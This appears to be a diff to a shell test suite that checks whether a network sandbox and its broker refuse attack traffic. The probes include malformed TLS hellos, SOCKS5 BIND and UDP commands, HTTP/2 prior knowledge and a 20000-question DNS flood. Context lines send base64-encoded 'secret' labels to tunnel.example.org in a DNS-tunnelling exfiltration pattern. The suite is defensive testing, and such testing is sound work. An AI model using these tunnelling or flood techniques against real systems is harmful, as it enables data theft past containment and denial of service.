@@ -272,6 +272,29 @@ jhost "keep-alive: every request the vhost server served was a closing one" \
 	"$(lab_new ka | grep '^req' | grep -v 'conn=close' | head -n 3 | tr '\n' '|')" \
 	test -z "$(lab_new ka | grep '^req' | grep -v 'conn=close')"
 
+# ------------------------------------------------------------------ TLS hellos, HTTP/2, SOCKS commands
+
+jrun --profile "$P" -- '
+pre big atk hello example.com 443 big
+pre ech atk hello example.com 443 ech
+pre split atk hello example.com 443 split
+pre slow atk hello example.com 443 slow
+pre bind atk socks_cmd 2 example.com 80
+pre udpa atk socks_cmd 3 example.com 80
+fetch h2 --noproxy "*" --http2-prior-knowledge http://example.com/
+fetch h2c --noproxy "*" --http2 http://example.com/
+'
+jre "tls: a hello over 16 KiB is refused" big_hello '^(closed|reset)$'
+jre "tls: a hello with ECH is refused" ech_hello '^(closed|reset)$'
+jis "tls: a hello split in 7-byte records reaches the server (control: the name is read across records)" split_hello answer
+jre "tls: a hello dribbled over 12 s (past the 10 s handshake limit) is refused" slow_hello '^(closed|reset|error:(32|104))$'
+jis "socks5: BIND is refused (reply 7)" bind_reply 7
+jis "socks5: UDP ASSOCIATE is refused (reply 7)" udpa_reply 7
+refused "http/2 prior knowledge on port 80 (not HTTP/1, no host:80 rule) is refused" h2
+jis "http/2 upgrade (h2c) on port 80: served as HTTP/1.1" h2c_body "hello from web"
+jhost "tls/h2/socks: the web server saw the control, the split hello and the h2c request only" \
+	"$(lab_new web | grep '^conn' | tr '\n' '|')" test "$(lab_new web | grep -c '^conn')" = 3
+
 # A host:port rule on a web port: the tunnel carries TLS or HTTP, which must name the
 # host as on the port itself (no fronting to another name of the same server).
 PR=$T/attack-raw.yaml
@@ -300,7 +323,7 @@ jrun --profile "$P" -- '
 for i in 1 2 3 4 5; do dig +short +tries=1 +time=2 "c2VjcmV0LXdvcmtzcGFjZS0$i.tunnel.example.org" A >/dev/null; done
 dig +short +tries=1 +time=2 "c2VjcmV0.tunnel.example.org" TXT >/dev/null
 dig +short +tries=1 +time=2 "c2VjcmV0.tunnel.example.org" MX >/dev/null
-pre f atk dnsflood 20000
+t0=$(date +%s%N); pre f atk dnsflood 20000; echo f_ms=$((($(date +%s%N) - t0) / 1000000))
 l63=$(printf "%063d" 0 | tr 0 a)
 pre ln atk longname
 echo long61=$(dig +tries=1 +time=2 "$l63.$l63.$l63.${l63:0:49}.example.org" A 2>&1 | sed -n "s/.*status: \([A-Z]*\).*/\1/p" | head -n 1)
@@ -313,6 +336,7 @@ jhost "dns tunnelling: names made up under an allowed wildcard never reach a DNS
 jhost "dns tunnelling: nor the lab's dnsmasq" "$(lab_new dns | grep -i tunnel | head -n 3 | tr '\n' '|')" \
 	test -z "$(lab_new dns | grep -i tunnel)"
 jis "dns flood (20000 UDP questions): the broker still answers" f_flood_ok 1
+echo "# dns flood: $(kv f_flood_sent) questions sent in $(kv f_ms) ms"
 jhost "dns flood: nothing reached a DNS server" "$(lab_new adns | grep -c flood)" test "$(lab_new adns | grep -c flood)" = 0
 jre "dns: a 4x63-byte name (over 253) is refused, not crashed on" ln_long_rcode '^[1-5]$'
 jre "dns: a name with a 64-byte label is refused" ln_label_rcode '^([1-5]|none)$'
@@ -412,7 +436,7 @@ while [ ! -e "$WS/bp.go" ]; do sleep 0.05; done
 EOF
 } >"$WS/bp.sh"
 rm -f "$WS"/bp.phase "$WS"/bp.go
-( timeout -k 5 60 ip netns exec "$LAB_NS" "$SBX_RUN" --workspace "$WS" --profile "$P" -- /bin/bash "$WS/bp.sh" >/dev/null 2>&1 </dev/null ) &
+( timeout -k 5 60 ip netns exec "$LAB_NS" "$SBX_RUN" --workspace "$WS" --profile "$P" -- /bin/bash "$WS/bp.sh" >/dev/null 2>&1 </dev/null; true ) 2>/dev/null &
 bg=$!
 t_defer_kill "$bg"
 if wait_until 30 test -e "$WS/bp.phase"; then
@@ -436,6 +460,9 @@ if wait_until 30 test -e "$WS/bp.phase"; then
 			test -z "$(echo "$fds" | tr ' ' '\n' | grep -v -E '^(socket:|/dev/null$|anon_inode:|pipe:|$)')"
 		t_check "broker: is in the host's network namespace, not the jail's" "$(readlink "/proc/$bp/ns/net")" \
 			test "$(readlink "/proc/$bp/ns/net")" = "$(readlink "/proc/$run/ns/net")"
+		# Facts for the report: where the broker's CPU and memory are charged.
+		jb=$(pgrep -f "$WS/bp.sh" | grep -v "^$run\$" | tail -n 1)
+		echo "# broker $bp cgroup $(cut -d: -f3 "/proc/$bp/cgroup"), sbx-run $(cut -d: -f3 "/proc/$run/cgroup"), jail bash $jb $(cut -d: -f3 "/proc/$jb/cgroup" 2>/dev/null); broker $(grep -E '^(VmRSS|Threads)' "/proc/$bp/status" | tr -s '\t\n ' ' '); nofile $(awk '/Max open files/ {print $4"/"$5}' "/proc/$bp/limits")"
 		kill -9 "$run"
 		t_check "broker: gone within 5 s of sbx-run's SIGKILL" "pid $bp still there" wait_until 5 eval "! kill -0 $bp 2>/dev/null"
 	else
